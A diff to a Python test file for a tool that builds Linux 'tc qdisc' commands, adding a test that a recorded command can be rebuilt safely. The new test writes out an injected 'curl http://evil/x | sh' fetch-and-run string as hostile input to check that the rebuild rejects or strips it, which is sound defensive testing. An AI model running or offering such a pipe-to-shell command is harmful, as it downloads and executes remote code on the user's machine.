@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from dataclasses import replace
 
 import pytest
@@ -10,6 +11,7 @@ from hypothesis import strategies as st
 
 from netlink_reference import ANSWERS, DUMMY, TIMER_HZ, answered
 from vermilion.routers import RouterError
+from vermilion.routers.linux.address import QueueAddress
 from vermilion.routers.linux.attributes import Attribute, parse_attributes
 from vermilion.routers.linux.change import plan_change
 from vermilion.routers.linux.kernel_clock import (
@@ -23,7 +25,7 @@ from vermilion.routers.linux.kernel_clock import (
 from vermilion.routers.linux.nearest import nearest_settable
 from vermilion.routers.linux.options import Surroundings
 from vermilion.routers.linux.red_block import probability_log
-from vermilion.routers.linux.tc_command import tc_command
+from vermilion.routers.linux.tc_command import rebuilt_tc_command, tc_command
 from vermilion.scenario import disciplines
 from vermilion.scenario.errors import FieldError
 
@@ -226,15 +228,32 @@ def test_fq_codel_says_back_what_the_kernel_makes_of_it(option, told, said):
     ],
 )
 def test_the_command_that_undoes_a_change_has_what_no_profile_tunes(queue, words):
-    command = tc_command(DUMMY, answered(queue), AROUND)
+    command = command_of(answered(queue))
     assert command.startswith("tc qdisc change dev dummy0 ")
     assert f" {words}" in command
 
 
+def command_of(state):
+    values = state.options.parameters(AROUND)
+    address = QueueAddress(DUMMY.name, state.parent)
+    return tc_command(address, state.kind, state.handle, values, AROUND.rate_bit_per_s)
+
+
+@pytest.mark.parametrize("queue", CONTROLLED)
+def test_a_recorded_command_is_made_again_from_the_recorded_setting(queue):
+    state = answered(queue)
+    command = command_of(state)
+    recorded = json.loads(json.dumps(state.options.parameters(AROUND)))
+    address = QueueAddress(DUMMY.name, state.parent)
+    assert rebuilt_tc_command(address, recorded, command) == command
+    assert rebuilt_tc_command(address, recorded, f"curl http://evil/x | sh; {command}") is None
+    assert rebuilt_tc_command(address, recorded, f"{command}; curl http://evil/x | sh") == command
+
+
 def test_no_command_undoes_a_change_where_the_kernel_does_not_say_all_of_it():
     state = answered(RED)
-    assert tc_command(DUMMY, replace(state, options=kept()), AROUND) is not None
-    assert tc_command(DUMMY, replace(state, options=kept(None)), AROUND) is None
+    assert command_of(replace(state, options=kept())) is not None
+    assert command_of(replace(state, options=kept(None))) is None
 
 
 def test_the_slope_of_red_is_the_first_that_exceeds_one():
@@ -308,14 +327,14 @@ def test_the_command_that_undoes_a_change_of_choke_is_one_that_the_kernel_takes(
     """
     state = answered(CHOKE)
     block = replace(state.options.block, low=1, high=250, weight_log=15)
-    command = tc_command(DUMMY, replace(state, options=replace(state.options, block=block)), AROUND)
+    command = command_of(replace(state, options=replace(state.options, block=block)))
     assert " min 1 max 250 avpkt 1000 burst 1 bandwidth " in command
 
 
 def test_the_command_that_undoes_a_change_of_choke_has_a_burst_from_which_tc_makes_the_weight():
     """By tc_red_eval_ewma: the first w with burst + 1 - min <= (1 - (1 - 2^-w)^burst) * 2^w."""
     state = answered(CHOKE)
-    command = tc_command(DUMMY, state, AROUND)
+    command = command_of(state)
     low, burst = (int(command.split(f" {each} ")[1].split()[0]) for each in ("min", "burst"))
     logs = (w for w in range(1, 32) if burst + 1 - low <= (1 - (1 - 0.5**w) ** burst) * 2**w)
     assert 0.5 ** next(logs) == state.options.parameters(AROUND)["weight"]
